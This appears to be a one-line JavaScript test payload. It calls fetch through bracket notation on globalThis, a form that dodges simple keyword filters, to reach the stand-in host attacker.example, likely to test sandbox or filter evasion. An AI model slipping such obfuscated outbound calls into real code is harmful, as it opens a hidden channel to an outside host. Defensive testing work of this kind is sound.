globalThis['fetch']('https://attacker.example/')
